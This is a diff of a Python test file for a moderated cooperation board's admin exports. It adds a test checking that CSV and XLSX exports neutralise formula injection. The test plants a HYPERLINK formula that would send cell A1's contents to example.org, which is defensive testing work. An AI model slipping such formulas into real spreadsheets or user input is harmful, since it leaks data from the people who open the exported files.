@@ -1,5 +1,6 @@
 """Board entries wait for a moderator: a submission is a draft until it is approved."""
 
+import csv
 import datetime as dt
 import io
 
@@ -82,10 +83,10 @@ def test_moderators_list_and_export_entries_with_readable_values(client, entry, 
 
     assert listing.status_code == 200
     assert "Partner für gemeinsame Vergabestelle gesucht" in listing.content.decode()
-    csv = (
+    exported = (
         b"".join(export.streaming_content).decode() if export.streaming else export.content.decode()
     )
-    assert "Nachfrage" in csv and "offen" in csv
+    assert "Nachfrage" in exported and "offen" in exported
 
 
 def test_xlsx_export_has_readable_values(client, entry, moderator):
@@ -124,3 +125,24 @@ def test_admin_form_offers_topics_as_checkboxes(client, moderator):
     html = client.get("/admin/snippets/board/cooperationentry/add/").content.decode()
 
     assert 'type="checkbox" name="topics"' in html
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_exports_never_start_a_formula_with_member_typed_text(
+    client, entry, moderator, export_format
+):
+    entry.title = '=HYPERLINK("http://example.org/?"&A1;"Klick")'
+    entry.save()
+    entry.save_revision().publish()
+    client.force_login(moderator)
+
+    export = client.get("/admin/snippets/board/cooperationentry/", {"export": export_format})
+
+    content = b"".join(export.streaming_content) if export.streaming else export.content
+    if export_format == "csv":
+        cells = {cell for row in csv.reader(io.StringIO(content.decode())) for cell in row}
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+        cells = {str(cell.value) for row in sheet.iter_rows() for cell in row}
+    assert "'" + entry.title in cells
+    assert entry.title not in cells
